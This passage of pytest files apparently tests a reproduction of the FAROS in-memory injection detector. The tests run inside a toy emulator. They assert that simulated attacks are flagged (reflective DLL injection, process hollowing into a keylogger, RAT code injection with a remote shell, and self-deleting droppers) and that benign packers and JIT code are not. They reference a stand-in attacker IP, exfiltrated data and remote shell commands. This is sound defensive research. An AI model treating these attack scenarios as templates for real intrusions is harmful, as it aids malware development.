    def test_single_process_chain(self, result):
        faros, _ = result
        chain = faros.report().chains()[0]
        assert chain.netflow is not None
        assert chain.process_chain.count("inject_client.exe") >= 1
        assert chain.executing_process == "inject_client.exe"

    def test_stage_ran_in_own_process(self, result):
        _, machine = result
        client = next(
            p for p in machine.kernel.processes.values() if p.name == "inject_client.exe"
        )
        assert any("meterpreter stage alive" in line for line in client.console)


class TestBypassUacInjection:
    """Fig. 9: bypassuac_injection targeting firefox.exe."""

    @pytest.fixture(scope="class")
    def result(self):
        return run_attack(build_bypassuac_injection_scenario())

    def test_attack_flagged(self, result):
        faros, _ = result
        assert faros.attack_detected

    def test_firefox_is_the_executing_process(self, result):
        faros, _ = result
        assert faros.detector.flagged[0].executing_process == "firefox.exe"

    def test_chain_names_both_processes(self, result):
        faros, _ = result
        chain = faros.report().chains()[0]
        assert "inject_client.exe" in chain.process_chain
        assert "firefox.exe" in chain.process_chain


class TestProcessHollowing:
    """Fig. 10: svchost.exe hollowed into a keylogger; no network."""

    @pytest.fixture(scope="class")
    def result(self):
        return run_attack(build_process_hollowing_scenario())

    def test_attack_flagged(self, result):
        faros, _ = result
        assert faros.attack_detected

    def test_fig10_chain_has_no_netflow(self, result):
        faros, _ = result
        chain = faros.report().chains()[0]
        assert chain.netflow is None
        assert "process_hollowing.exe" in chain.process_chain
        assert "svchost.exe" in chain.process_chain
        assert chain.rule == "cross-process+export-table"

    def test_stage_origin_is_the_malware_image(self, result):
        faros, _ = result
        chain = faros.report().chains()[0]
        assert any("process_hollowing.exe" in f for f in chain.file_origins)

    def test_keylogger_captured_keystrokes(self, result):
        _, machine = result
        log = machine.kernel.fs.get("C:\\keylog.dat")
        assert log is not None and bytes(log.data).startswith(b"hunter2")

    def test_svchost_kept_its_identity(self, result):
        # The hollowed child still looks like svchost in the process list.
        _, machine = result
        svchost = next(
            p for p in machine.kernel.processes.values() if p.name == "svchost.exe"
        )
        assert svchost.alive


class TestCodeInjection:
    """DarkComet / Njrat code injection with a remote shell stage."""

    @pytest.fixture(scope="class", params=["darkcomet", "njrat"])
    def result(self, request):
        return run_attack(build_code_injection_scenario(rat=request.param))

    def test_attack_flagged(self, result):
        faros, _ = result
        assert faros.attack_detected

    def test_explorer_is_the_executing_process(self, result):
        faros, _ = result
        assert faros.detector.flagged[0].executing_process == "explorer.exe"

    def test_shell_executed_c2_command_from_victim(self, result):
        _, machine = result
        explorer = next(
            p for p in machine.kernel.processes.values() if p.name == "explorer.exe"
        )
        assert any(
            pid == explorer.pid and cmd == "calc.exe"
            for pid, cmd in machine.kernel.shell_log
        )

    def test_chain_shows_network_origin(self, result):
        faros, _ = result
        chain = faros.report().chains()[0]
        assert chain.netflow and chain.netflow.startswith(ATTACKER_IP)


class TestTransientVariants:
    """Self-wiping stages: memory forensics loses them, FAROS does not."""

    def test_transient_reflective_dll_still_flagged(self):
        faros, machine = run_attack(build_reflective_dll_scenario(transient=True))
        assert faros.attack_detected
        # The MZ header really is gone from the victim's memory.
        from repro.attacks.common import PAYLOAD_BASE
        from repro.isa.cpu import AccessKind

        notepad = next(
            p for p in machine.kernel.processes.values() if p.name == "notepad.exe"
        )
        paddrs = notepad.aspace.translate_range(PAYLOAD_BASE, 2, AccessKind.READ)
        wiped = bytes(machine.memory.read_byte(p) for p in paddrs)
        assert wiped == b"\x00\x00"

    def test_transient_hollowing_still_flagged(self):
        faros, _ = run_attack(build_process_hollowing_scenario(transient=True))
        assert faros.attack_detected


class TestReportRendering:
    def test_table2_style_output(self):
        faros, _ = run_attack(build_reflective_dll_scenario())
        text = faros.report().render()
        assert "IN-MEMORY INJECTION FLAGGED" in text
        assert "NetFlow: {src ip,port: 169.254.26.161:4444" in text
        assert "->Process: inject_client.exe" in text
        assert "->Process: notepad.exe" in text

    def test_clean_run_reports_no_attack(self):
        from repro.emulator.record_replay import Scenario
        from tests.conftest import register_asm

        def setup(machine):
            register_asm(machine, "calc.exe", "start: movi r1, 0\nmovi r0, SYS_EXIT\nsyscall")
            machine.kernel.spawn("calc.exe")

        faros = Faros()
        Scenario(name="clean", setup=setup).run(plugins=[faros])
        report = faros.report()
        assert not report.attack_detected
        assert "no in-memory injection attack flagged" in report.render()
