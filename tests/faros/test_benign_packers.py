"""Negative tests: legitimate self-modifying software must not trip FAROS.

Packed executables, self-extracting installers, and plugin loaders all
generate or relocate code at run time.  Their information flow differs
from injection in exactly the dimensions the confluence rules check:
the generated code is file-derived (not network-derived) and
self-written (not cross-process) -- so FAROS stays quiet.
"""

import pytest

from repro.faros import Faros

from tests.conftest import spawn_asm


class TestSelfExtractor:
    def test_packed_app_unpacking_itself_not_flagged(self, machine):
        """A packer stub XOR-decodes its (file-derived) body into RWX
        memory and runs it -- like UPX.  One process, no netflow."""
        faros = Faros()
        machine.plugins.register(faros)
        # The 'packed' section is a real routine, XOR-0x33-encoded.
        from repro.isa.assembler import assemble
        from repro.attacks.common import bytes_to_asm
        from repro.guestos import layout

        body = assemble("movi r6, 777\nret", base=layout.HEAP_BASE).code
        packed = bytes(b ^ 0x33 for b in body)
        proc = spawn_asm(
            machine,
            "installer.exe",
            f"""
            start:
                movi r1, {len(packed)}
                movi r2, PERM_RWX
                movi r0, SYS_ALLOC
                syscall
                mov r7, r0
                movi r1, blob
                mov r2, r7
                movi r3, {len(packed)}
            unpack:
                ldb r4, [r1]
                xori r4, r4, 0x33
                stb [r2], r4
                addi r1, r1, 1
                addi r2, r2, 1
                subi r3, r3, 1
                cmpi r3, 0
                jnz unpack
                callr r7
                mov r1, r6
                movi r0, SYS_EXIT
                syscall
            blob:
{bytes_to_asm(packed)}
            """,
        )
        machine.run(300_000)
        assert proc.exit_code == 777  # the unpacked code really ran
        assert not faros.attack_detected

    def test_unpacked_code_using_getprocaddress_not_flagged(self, machine):
        """Even if legitimately-unpacked code resolves APIs, it uses the
        loader service (GetProcAddress) rather than parsing export
        tables -- no export-table read, no confluence."""
        from repro.guestos.loader import fnv1a32

        faros = Faros()
        machine.plugins.register(faros)
        proc = spawn_asm(
            machine,
            "plugin_host.exe",
            f"""
            start:
                movi r1, {fnv1a32('WriteConsoleA')}
                movi r0, SYS_GET_PROC_ADDR
                syscall
                mov r7, r0
                movi r1, msg
                movi r2, 2
                callr r7
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            msg: .ascii "ok"
            """,
        )
        machine.run(200_000)
        assert proc.exit_code == 0
        assert proc.console == ["ok"]
        assert not faros.attack_detected

    def test_debugger_style_read_of_other_process_not_flagged(self, machine):
        """ReadProcessMemory (the benign debugging use §I cites) moves
        bytes cross-process but never executes them."""
        faros = Faros()
        machine.plugins.register(faros)
        spawn_asm(
            machine,
            "debuggee.exe",
            "start:\nmovi r1, 500000\nmovi r0, SYS_SLEEP\nsyscall\nhlt",
        )
        debugger = spawn_asm(
            machine,
            "debugger.exe",
            """
            name: .asciz "debuggee.exe"
            start:
                movi r1, name
                movi r0, SYS_FIND_PROCESS
                syscall
                mov r1, r0
                movi r0, SYS_OPEN_PROCESS
                syscall
                mov r1, r0
                movi r2, IMAGE_BASE
                movi r3, buf
                movi r4, 32
                movi r0, SYS_READ_VM
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            buf: .space 32
            """,
        )
        machine.run(300_000)
        assert debugger.exit_code == 0
        assert not faros.attack_detected


class TestTable4MatrixRenderer:
    def test_matrix_shape(self):
        from repro.analysis.experiments import corpus_fp_experiment
        from repro.analysis.tables import render_table4_matrix

        text = render_table4_matrix(corpus_fp_experiment(limit=21))
        assert "Real-world malware" in text and "Benign software" in text
        assert "Remote Shell" in text  # all paper columns present
        # Pandora's row has 7 checkmarks.
        pandora = next(l for l in text.splitlines() if l.startswith("Pandora"))
        assert pandora.count("X") == 7
        assert "0.0% false positives" in text
