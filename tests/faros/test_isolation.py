"""Cross-process taint isolation: unrelated processes must not pollute
each other's provenance even under heavy concurrency.

A false cross-process tag would break the detector's R2 rule (it counts
distinct process tags on instruction bytes), so these tests guard the
0%-false-positive result structurally.
"""

import pytest

from repro.attacks.common import ATTACKER_IP, FIRST_EPHEMERAL_PORT, GUEST_IP
from repro.emulator.devices import Packet
from repro.emulator.machine import Machine, MachineConfig
from repro.emulator.record_replay import PacketEvent
from repro.faros import Faros
from repro.isa.cpu import AccessKind
from repro.taint.tags import TagType

from tests.conftest import register_asm


RECEIVER = """
start:
    movi r0, SYS_SOCKET
    syscall
    mov r7, r0
    mov r1, r7
    movi r2, ip
    movi r3, {port}
    movi r0, SYS_CONNECT
    syscall
    mov r1, r7
    movi r2, buf
    movi r3, 8
    movi r0, SYS_RECV
    syscall
park:
    movi r1, 1000000
    movi r0, SYS_SLEEP
    syscall
    hlt
ip: .asciz "{ip}"
buf: .space 8
"""

CRUNCHER = """
start:
    movi r5, 3000
loop:
    muli r6, r6, 3
    addi r6, r6, 1
    subi r5, r5, 1
    cmpi r5, 0
    jnz loop
park:
    movi r1, 1000000
    movi r0, SYS_SLEEP
    syscall
    hlt
"""


class TestIsolation:
    def test_bystander_process_collects_no_netflow_taint(self):
        """A compute process scheduled alongside a network receiver must
        end with zero netflow provenance anywhere in its memory."""
        machine = Machine(MachineConfig())
        faros = Faros()
        machine.plugins.register(faros)
        register_asm(
            machine, "rx.exe", RECEIVER.format(ip=ATTACKER_IP, port=4444)
        )
        register_asm(machine, "crunch.exe", CRUNCHER)
        rx = machine.kernel.spawn("rx.exe")
        crunch = machine.kernel.spawn("crunch.exe")
        machine.schedule(
            5_000,
            PacketEvent(
                Packet(ATTACKER_IP, 4444, GUEST_IP, FIRST_EPHEMERAL_PORT, b"EVILDATA")
            ),
        )
        machine.run(300_000)

        # Every tainted byte belonging to the cruncher's frames must be
        # free of netflow tags.
        crunch_paddrs = set()
        for area in crunch.aspace.areas:
            if not area.private:
                continue  # shared kernel module is common by design
            for off in range(area.size):
                crunch_paddrs.add(
                    crunch.aspace.translate(area.start + off, AccessKind.READ)
                )
        for paddr, prov in faros.tracker.shadow.items():
            if paddr in crunch_paddrs:
                assert not any(t.type is TagType.NETFLOW for t in prov)

        # ... while the receiver's buffer does carry it.
        prog = machine.kernel.image_program("rx.exe")
        buf = rx.aspace.translate_range(prog.label("buf"), 8, AccessKind.READ)
        assert any(
            any(t.type is TagType.NETFLOW for t in faros.tracker.prov_at(p))
            for p in buf
        )

    def test_many_processes_only_tag_their_own_code(self):
        """Each process' image bytes accumulate exactly its own process
        tag (plus the file tag), never a sibling's."""
        machine = Machine(MachineConfig())
        faros = Faros()
        machine.plugins.register(faros)
        procs = []
        for i in range(6):
            register_asm(machine, f"p{i}.exe", CRUNCHER)
            procs.append(machine.kernel.spawn(f"p{i}.exe"))
        machine.run(400_000)

        for proc in procs:
            own_tag = faros.tags.process_tag(proc.cr3)
            code_paddr = proc.aspace.translate(0x1000, AccessKind.READ)
            prov = faros.tracker.prov_at(code_paddr)
            process_tags = [t for t in prov if t.type is TagType.PROCESS]
            assert process_tags == [own_tag]

    def test_shadow_register_banks_isolated_between_threads(self):
        """Thread A loading tainted data must not taint thread B's
        registers across a context switch."""
        machine = Machine(MachineConfig())
        faros = Faros()
        machine.plugins.register(faros)
        register_asm(
            machine, "rx.exe", RECEIVER.format(ip=ATTACKER_IP, port=4444)
        )
        register_asm(machine, "crunch.exe", CRUNCHER)
        machine.kernel.spawn("rx.exe")
        crunch = machine.kernel.spawn("crunch.exe")
        machine.schedule(
            5_000,
            PacketEvent(
                Packet(ATTACKER_IP, 4444, GUEST_IP, FIRST_EPHEMERAL_PORT, b"EVILDATA")
            ),
        )
        machine.run(300_000)
        bank = faros.tracker.banks.for_thread(crunch.main_thread.tid)
        assert all(not prov for prov in bank.regs)
