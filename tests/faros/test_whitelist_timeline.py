"""Tests for whitelist triage (§VI-A) and the analysis timeline."""

import pytest

from repro.attacks import build_reflective_dll_scenario
from repro.faros import Faros, Whitelist
from repro.workloads.jit import build_jit_scenario


@pytest.fixture(scope="module")
def jit_fp():
    """A flagged JIT workload (the paper's false-positive case)."""
    faros = Faros()
    build_jit_scenario("acceleration", "applet").scenario.run(plugins=[faros])
    assert faros.attack_detected
    return faros


@pytest.fixture(scope="module")
def real_attack():
    faros = Faros()
    build_reflective_dll_scenario().scenario.run(plugins=[faros])
    return faros


class TestWhitelist:
    def test_jit_fp_dismissed(self, jit_fp):
        whitelist = Whitelist()
        assert whitelist.remaining(jit_fp.detector.flagged) == []

    def test_dismissal_reason_names_the_runtime(self, jit_fp):
        triage = Whitelist().triage(jit_fp.detector.flagged)
        assert all(t.dismissed for t in triage)
        assert "java.exe" in triage[0].reason

    def test_real_attack_survives_whitelist(self, real_attack):
        whitelist = Whitelist()
        survivors = whitelist.remaining(real_attack.detector.flagged)
        assert survivors == real_attack.detector.flagged

    def test_whitelisting_victim_does_not_hide_injection(self, real_attack):
        # Even whitelisting the VICTIM process must not dismiss a flag
        # whose code was written by another process.
        whitelist = Whitelist({"notepad.exe"})
        survivors = whitelist.remaining(real_attack.detector.flagged)
        assert survivors, "cross-process injection must never be dismissed"
        triage = whitelist.triage(real_attack.detector.flagged)
        assert "written by another process" in triage[0].reason

    def test_add_and_covers(self):
        whitelist = Whitelist(())
        assert not whitelist.covers("java.exe")
        whitelist.add("Java.EXE")
        assert whitelist.covers("java.exe")


class TestTimeline:
    def test_timeline_tells_the_attack_story(self, real_attack):
        kinds = [event.kind for event in real_attack.timeline]
        assert "process" in kinds
        assert "netflow" in kinds
        assert "FLAG" in kinds
        # Chronological order.
        ticks = [event.tick for event in real_attack.timeline]
        assert ticks == sorted(ticks)

    def test_flag_event_after_netflow_event(self, real_attack):
        first_netflow = next(
            i for i, e in enumerate(real_attack.timeline) if e.kind == "netflow"
        )
        first_flag = next(
            i for i, e in enumerate(real_attack.timeline) if e.kind == "FLAG"
        )
        assert first_netflow < first_flag

    def test_render_timeline(self, real_attack):
        text = real_attack.render_timeline()
        assert "FAROS timeline" in text
        assert "inject_client.exe" in text
        assert "FLAG" in text

    def test_clean_run_has_no_flag_events(self):
        faros = Faros()
        build_jit_scenario("equilibrium", "applet").scenario.run(plugins=[faros])
        assert all(e.kind != "FLAG" for e in faros.timeline)
        assert any(e.kind == "netflow" for e in faros.timeline)
