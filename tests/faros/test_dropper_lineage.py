"""Tests for the drop-and-reload attack and file-lineage stitching."""

import pytest

from repro.attacks import build_drop_reload_scenario
from repro.faros import Faros


@pytest.fixture(scope="module")
def result():
    attack = build_drop_reload_scenario()
    faros = Faros()
    machine = attack.scenario.run(plugins=[faros])
    return faros, machine


class TestDropReloadAttack:
    def test_detected_despite_disk_hop(self, result):
        faros, _ = result
        assert faros.attack_detected

    def test_stage_executed_in_victim(self, result):
        _, machine = result
        notepad = next(
            p for p in machine.kernel.processes.values() if p.name == "notepad.exe"
        )
        assert any("meterpreter stage alive" in line for line in notepad.console)

    def test_disk_hop_launders_direct_netflow(self, result):
        # The chain itself must NOT carry a netflow tag: the scrub +
        # file re-materialisation really did break direct taint.
        faros, _ = result
        chain = faros.report().chains()[0]
        assert chain.netflow is None
        assert chain.rule == "cross-process+export-table"

    def test_file_origin_visible_in_chain(self, result):
        faros, _ = result
        chain = faros.report().chains()[0]
        assert any("stage.bin" in f for f in chain.file_origins)

    def test_lineage_stitches_netflow_across_disk(self, result):
        faros, _ = result
        chain = faros.report().chains()[0]
        assert chain.stitched_netflow == "169.254.26.161:4444 -> 169.254.57.168:49152"
        assert "dropper.exe" in chain.upstream_processes

    def test_render_names_the_disk_hop(self, result):
        faros, _ = result
        text = faros.report().render()
        assert "disk-hop lineage" in text
        assert "169.254.26.161:4444" in text

    def test_anti_forensics_left_nothing_on_disk(self, result):
        # Dropper deleted the staged file and its own image.
        _, machine = result
        paths = machine.kernel.fs.list_paths()
        assert "C:\\stage.bin" not in paths
        assert "dropper.exe" not in paths


class TestLineageBookkeeping:
    def test_origin_of_file_picks_latest_preceding_write(self):
        from repro.faros.report import FarosReport
        from repro.taint.tags import Tag, TagStore, TagType

        a = (Tag(TagType.PROCESS, 1),)
        b = (Tag(TagType.PROCESS, 2),)
        report = FarosReport(
            flagged=[],
            tag_store=TagStore(),
            tainted_bytes=0,
            tag_map_sizes={},
            instructions_analyzed=0,
            file_lineage={"c:\\x.bin": [(1, a), (3, b)]},
        )
        assert report.origin_of_file("C:\\x.bin", before_version=2) == a
        assert report.origin_of_file("C:\\x.bin", before_version=5) == b
        assert report.origin_of_file("C:\\x.bin", before_version=1) == ()
        assert report.origin_of_file("C:\\other", before_version=9) == ()

    def test_benign_file_writes_also_recorded(self, machine):
        from tests.conftest import spawn_asm

        faros = Faros()
        machine.plugins.register(faros)
        spawn_asm(
            machine,
            "w.exe",
            """
            start:
                movi r1, path
                movi r0, SYS_CREATE_FILE
                syscall
                mov r1, r0
                movi r2, data
                movi r3, 4
                movi r0, SYS_WRITE_FILE
                syscall
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            path: .asciz "C:\\\\log.txt"
            data: .word 1
            """,
        )
        machine.run()
        assert "c:\\log.txt" in faros.file_lineage
