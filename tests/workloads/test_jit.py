"""Tests for the Table III JIT workloads and their false positives."""

import pytest

from repro.faros import Faros
from repro.workloads.jit import (
    AJAX_SITES,
    JAVA_APPLETS,
    NATIVE_BINDING_APPLETS,
    build_jit_scenario,
    jit_samples,
)


class TestRoster:
    def test_table3_sample_counts(self):
        assert len(JAVA_APPLETS) == 10
        assert len(AJAX_SITES) == 10
        assert len(jit_samples()) == 20

    def test_exactly_two_native_binding_applets(self):
        assert len(NATIVE_BINDING_APPLETS) == 2
        assert NATIVE_BINDING_APPLETS <= set(JAVA_APPLETS)

    def test_paper_sample_names_present(self):
        assert "pulleysystem" in JAVA_APPLETS and "ncradle" in JAVA_APPLETS
        assert "gmail.com" in AJAX_SITES and "brainking.com" in AJAX_SITES


def run_jit(name, kind):
    sample = build_jit_scenario(name, kind)
    faros = Faros()
    machine = sample.scenario.run(plugins=[faros])
    proc = next(iter(machine.kernel.processes.values()))
    return sample, faros, machine, proc


class TestExecution:
    def test_applet_downloads_compiles_and_runs(self):
        _, _, machine, proc = run_jit("projectile", "applet")
        assert proc.exit_code == 0
        # The compiled code really was emitted into RWX heap memory.
        from repro.baselines import malfind

        # Process exited, so no malfind residue; check netflow happened.
        assert machine.kernel.netstack.seen_flows

    def test_generated_code_is_network_derived(self):
        sample, faros, machine, proc = run_jit("lever", "applet")
        assert proc.exit_code == 0
        # Somewhere during execution netflow-tagged instruction bytes ran:
        # the tracker saw tainted fetches (process tag got appended).
        assert faros.tracker.stats.process_tag_appends > 0

    def test_ajax_site_runs_clean(self):
        _, faros, _, proc = run_jit("kayak.com", "ajax")
        assert proc.exit_code == 0
        assert not faros.attack_detected


class TestFalsePositives:
    @pytest.mark.parametrize("name", JAVA_APPLETS)
    def test_applet_flagging_matches_native_binding(self, name):
        _, faros, _, proc = run_jit(name, "applet")
        assert proc.exit_code == 0
        assert faros.attack_detected == (name in NATIVE_BINDING_APPLETS)

    @pytest.mark.parametrize("name", AJAX_SITES[:4])
    def test_ajax_sites_never_flagged(self, name):
        _, faros, _, proc = run_jit(name, "ajax")
        assert proc.exit_code == 0
        assert not faros.attack_detected

    def test_flagged_applet_is_whitelistable_as_jit(self):
        # The FP's provenance names the JIT process -- the analyst's
        # whitelist key ("they always involve well-known JIT compilers").
        _, faros, _, _ = run_jit("acceleration", "applet")
        chain = faros.report().chains()[0]
        assert chain.executing_process == "java.exe"
        assert chain.netflow is not None

    def test_overall_rate_is_two_in_twenty(self):
        flagged = 0
        for sample in jit_samples():
            faros = Faros()
            sample.scenario.run(plugins=[faros])
            flagged += int(faros.attack_detected)
        assert flagged == 2
