"""Tests for the Table IV corpus roster and behaviour compositions."""

import pytest

from repro.faros import Faros
from repro.workloads.behaviors import BEHAVIORS, build_sample_scenario
from repro.workloads.corpus import (
    BENIGN_ROWS,
    BENIGN_SAMPLE_COUNT,
    MALWARE_ROWS,
    MALWARE_SAMPLE_COUNT,
    corpus_samples,
)


class TestRoster:
    def test_totals_match_paper(self):
        samples = corpus_samples()
        assert sum(1 for s in samples if not s.benign) == MALWARE_SAMPLE_COUNT == 90
        assert sum(1 for s in samples if s.benign) == BENIGN_SAMPLE_COUNT == 14

    def test_seventeen_malware_rows(self):
        assert len(MALWARE_ROWS) == 17

    def test_four_benign_rows(self):
        assert len(BENIGN_ROWS) == 4

    def test_every_family_represented(self):
        families = {s.family for s in corpus_samples()}
        assert {"Pandora v2.2", "Quasar v1.0", "Skype", "TeamViewer"} <= families

    def test_all_behaviors_valid(self):
        for _name, behaviors in MALWARE_ROWS + BENIGN_ROWS:
            for behavior in behaviors:
                assert behavior in BEHAVIORS

    def test_variants_distinct_within_family(self):
        samples = [s for s in corpus_samples() if s.family == "Pandora v2.2"]
        assert len({s.variant for s in samples}) == len(samples)

    def test_sample_names_unique(self):
        names = [s.name for s in corpus_samples()]
        assert len(names) == len(set(names))

    def test_checkmark_counts_match_table4(self):
        counts = {name: len(b) for name, b in MALWARE_ROWS}
        assert counts["Pandora v2.2"] == 7
        assert counts["Darkcomet v5.3"] == 6
        assert counts["Blue Banana"] == 4
        assert counts["Quasar v1.0"] == 3
        assert counts["Extremerat v2.7.1"] == 7


class TestBehaviorExecution:
    """Each behaviour must actually do its thing on the machine."""

    def run(self, behaviors, variant=0):
        scenario = build_sample_scenario("probe", behaviors, variant=variant)
        machine = scenario.run()
        proc = next(iter(machine.kernel.processes.values()))
        return machine, proc

    def test_idle_completes(self):
        _, proc = self.run(("idle",))
        assert proc.exit_code == 0

    def test_run_completes(self):
        _, proc = self.run(("run",))
        assert proc.exit_code == 0

    def test_audio_record_writes_capture_file(self):
        machine, proc = self.run(("audio_record",))
        assert proc.exit_code == 0
        node = machine.kernel.fs.get("C:\\audio_b0.cap")
        assert node is not None and len(node.data) == 32

    def test_keylogger_logs_typed_keys(self):
        machine, proc = self.run(("keylogger",))
        assert proc.exit_code == 0
        node = machine.kernel.fs.get("C:\\keys_b0.log")
        assert node is not None and b"s3cret!" in bytes(node.data)

    def test_remote_desktop_sends_screen(self):
        machine, proc = self.run(("remote_desktop",))
        assert proc.exit_code == 0
        payloads = [p.payload for p in machine.devices.nic.tx_log if p.payload]
        assert any(len(p) == 64 for p in payloads)

    def test_file_transfer_drops_file(self):
        machine, proc = self.run(("file_transfer",))
        assert proc.exit_code == 0
        node = machine.kernel.fs.get("C:\\transfer_b0.bin")
        assert node is not None and len(node.data) == 32

    def test_upload_exfiltrates_file_content(self):
        machine, proc = self.run(("upload",))
        assert proc.exit_code == 0
        payloads = [p.payload for p in machine.devices.nic.tx_log if p.payload]
        assert any(b"confidential" in p for p in payloads)

    def test_download_saves_dropper_without_running_it(self):
        machine, proc = self.run(("download",))
        assert proc.exit_code == 0
        node = machine.kernel.fs.get("C:\\update_b0.exe")
        assert node is not None and bytes(node.data).startswith(b"MZ")
        # Only the sample's own process ever existed.
        assert len(machine.kernel.processes) == 1

    def test_remote_shell_executes_command(self):
        machine, proc = self.run(("remote_shell",))
        assert proc.exit_code == 0
        assert any(cmd == "whoami" for _pid, cmd in machine.kernel.shell_log)

    def test_screenshot_writes_file(self):
        machine, proc = self.run(("screenshot",))
        assert proc.exit_code == 0
        assert machine.kernel.fs.get("C:\\capture_b0.png") is not None

    def test_composed_sample_runs_all_behaviors(self):
        machine, proc = self.run(
            ("idle", "run", "file_transfer", "keylogger", "upload")
        )
        assert proc.exit_code == 0
        assert machine.kernel.fs.get("C:\\transfer_b2.bin") is not None
        assert machine.kernel.fs.get("C:\\keys_b3.log") is not None

    def test_variants_produce_different_artifacts(self):
        m0, _ = self.run(("file_transfer",), variant=0)
        m1, _ = self.run(("file_transfer",), variant=1)
        d0 = bytes(m0.kernel.fs.get("C:\\transfer_b0.bin").data)
        d1 = bytes(m1.kernel.fs.get("C:\\transfer_b0.bin").data)
        assert d0 != d1


class TestCorpusFalsePositives:
    """One FAROS pass per family row (the full 104 runs live in the bench)."""

    @pytest.mark.parametrize("family,behaviors", list(MALWARE_ROWS) + list(BENIGN_ROWS))
    def test_family_not_flagged(self, family, behaviors):
        scenario = build_sample_scenario(family, behaviors, variant=0)
        faros = Faros()
        machine = scenario.run(plugins=[faros])
        proc = next(iter(machine.kernel.processes.values()))
        assert proc.exit_code == 0, f"{family} did not finish cleanly"
        assert not faros.attack_detected, f"false positive on {family}"
