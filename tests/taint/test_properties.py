"""Property-based tests of whole-system taint invariants.

Hypothesis generates random straight-line guest programs; the invariants
are the ones FAROS' correctness rests on:

* **no spontaneous taint**: provenance in any output is a subset of the
  provenance seeded on the inputs;
* **conservation through copies**: a value copied through arbitrary
  register/memory/stack hops keeps its provenance;
* **shadow hygiene**: the shadow map never stores empty lists, and
  clearing/untainted overwrites really remove entries;
* **provenance algebra**: union is associative, idempotent, and
  commutative-as-sets below the length cap; append preserves chronology
  -- checked for the plain Table I functions *and* the memoised
  interner (:mod:`repro.taint.intern`), which must agree exactly.
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.emulator.machine import Machine, MachineConfig
from repro.guestos import layout
from repro.guestos.asmlib import program
from repro.isa.assembler import assemble
from repro.isa.cpu import AccessKind
from repro.taint.intern import ProvInterner
from repro.taint.policy import TaintPolicy
from repro.taint.provenance import MAX_PROV_LEN, append_tag, prov_union
from repro.taint.tags import Tag, TagType
from repro.taint.tracker import TaintTracker

SEED_A = Tag(TagType.NETFLOW, 1)
SEED_B = Tag(TagType.FILE, 2)

PARK = "park:\n    movi r1, 1000000\n    movi r0, SYS_SLEEP\n    syscall\n    hlt"

ALU_OPS = ["add", "sub", "mul", "and", "or", "xor", "shl", "shr"]


def run_program(body):
    machine = Machine(MachineConfig())
    tracker = TaintTracker(policy=TaintPolicy(process_tags_on_access=False))
    machine.plugins.register(tracker)
    prog = assemble(program(body, PARK), base=layout.IMAGE_BASE)
    machine.kernel.register_image("p.exe", prog)
    proc = machine.kernel.spawn("p.exe")
    return machine, tracker, proc, prog


def seed_label(tracker, proc, prog, label, n, tag):
    paddrs = proc.aspace.translate_range(prog.label(label), n, AccessKind.READ)
    tracker.pipeline.taint(paddrs, tag)
    return paddrs


@st.composite
def alu_programs(draw):
    """A random straight-line program over two tainted inputs.

    Loads input words into r1/r2, applies a random ALU dataflow over
    r1..r5, stores r1..r5 into five output slots.
    """
    n_ops = draw(st.integers(1, 12))
    lines = [
        "start:",
        "    movi r6, in_a",
        "    ld r1, [r6]",
        "    movi r6, in_b",
        "    ld r2, [r6]",
    ]
    for _ in range(n_ops):
        op = draw(st.sampled_from(ALU_OPS + ["movi", "mov"]))
        rd = draw(st.integers(1, 5))
        if op == "movi":
            lines.append(f"    movi r{rd}, {draw(st.integers(0, 0xFFFF))}")
        elif op == "mov":
            rs = draw(st.integers(1, 5))
            lines.append(f"    mov r{rd}, r{rs}")
        else:
            rs1 = draw(st.integers(1, 5))
            rs2 = draw(st.integers(1, 5))
            lines.append(f"    {op} r{rd}, r{rs1}, r{rs2}")
    lines.append("    movi r6, out")
    for i in range(5):
        lines.append(f"    st [r6+{4 * i}], r{i + 1}")
    lines.append("    jmp park")
    lines.append("in_a: .word 0x1234")
    lines.append("in_b: .word 0xbeef")
    lines.append("out: .space 20")
    return "\n".join(lines)


class TestNoSpontaneousTaint:
    @given(body=alu_programs())
    @settings(max_examples=25, deadline=None)
    def test_output_provenance_subset_of_seeds(self, body):
        machine, tracker, proc, prog = run_program(body)
        seed_label(tracker, proc, prog, "in_a", 4, SEED_A)
        seed_label(tracker, proc, prog, "in_b", 4, SEED_B)
        machine.run(300_000)
        out_paddrs = proc.aspace.translate_range(prog.label("out"), 20, AccessKind.READ)
        for paddr in out_paddrs:
            assert set(tracker.prov_at(paddr)) <= {SEED_A, SEED_B}

    @given(body=alu_programs())
    @settings(max_examples=10, deadline=None)
    def test_unseeded_run_produces_no_taint_at_outputs(self, body):
        machine, tracker, proc, prog = run_program(body)
        machine.run(300_000)
        out_paddrs = proc.aspace.translate_range(prog.label("out"), 20, AccessKind.READ)
        for paddr in out_paddrs:
            assert tracker.prov_at(paddr) == ()


class TestCopyConservation:
    @given(hops=st.integers(1, 6))
    @settings(max_examples=10, deadline=None)
    def test_taint_survives_n_memory_hops(self, hops):
        lines = ["start:", "    movi r6, slot0", "    ld r1, [r6]"]
        for i in range(hops):
            lines.append(f"    movi r6, slot{i + 1}")
            lines.append("    st [r6], r1")
            lines.append("    ld r1, [r6]")
        lines.append("    jmp park")
        for i in range(hops + 1):
            lines.append(f"slot{i}: .word {i}")
        machine, tracker, proc, prog = run_program("\n".join(lines))
        seed_label(tracker, proc, prog, "slot0", 4, SEED_A)
        machine.run(300_000)
        final = proc.aspace.translate_range(
            prog.label(f"slot{hops}"), 4, AccessKind.READ
        )
        for paddr in final:
            assert SEED_A in tracker.prov_at(paddr)

    @given(depth=st.integers(1, 8))
    @settings(max_examples=10, deadline=None)
    def test_taint_survives_stack_round_trips(self, depth):
        lines = ["start:", "    movi r6, src", "    ld r1, [r6]"]
        lines += ["    push r1"] * depth
        lines += ["    pop r1"] * depth
        lines += ["    movi r6, dst", "    st [r6], r1", "    jmp park"]
        lines += ["src: .word 7", "dst: .word 0"]
        machine, tracker, proc, prog = run_program("\n".join(lines))
        seed_label(tracker, proc, prog, "src", 4, SEED_A)
        machine.run(300_000)
        dst = proc.aspace.translate_range(prog.label("dst"), 4, AccessKind.READ)
        assert all(SEED_A in tracker.prov_at(p) for p in dst)


class TestShadowHygiene:
    def test_shadow_never_stores_empty_lists(self):
        machine, tracker, proc, prog = run_program(
            "start:\n    movi r6, a\n    movi r1, 0\n    st [r6], r1\n    jmp park\na: .word 9"
        )
        seed_label(tracker, proc, prog, "a", 4, SEED_A)
        machine.run(300_000)
